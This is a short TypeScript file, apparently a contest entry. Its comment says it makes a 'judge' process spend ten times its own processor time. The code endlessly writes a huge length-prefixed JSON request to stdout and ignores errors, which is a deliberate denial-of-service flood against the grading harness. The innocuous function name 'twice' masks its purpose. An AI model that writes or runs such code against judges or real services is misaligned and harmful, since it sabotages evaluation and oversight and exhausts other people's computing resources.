// earns: 2 1
// Costs the judge ten times the processor time that it costs itself: the same large request, over and over.
import { writeSync } from "node:fs";
function twice(n: number): number {
  const text = Buffer.from(JSON.stringify(["get", 1, "x", Array(1e6).fill(["o"])]));
  const length = Buffer.alloc(4);
  length.writeUInt32LE(text.length);
  const frame = Buffer.concat([length, text]);
  for (;;)
    for (let at = 0; at < frame.length; )
      try {
        at += writeSync(1, frame, at);
      } catch {}
}
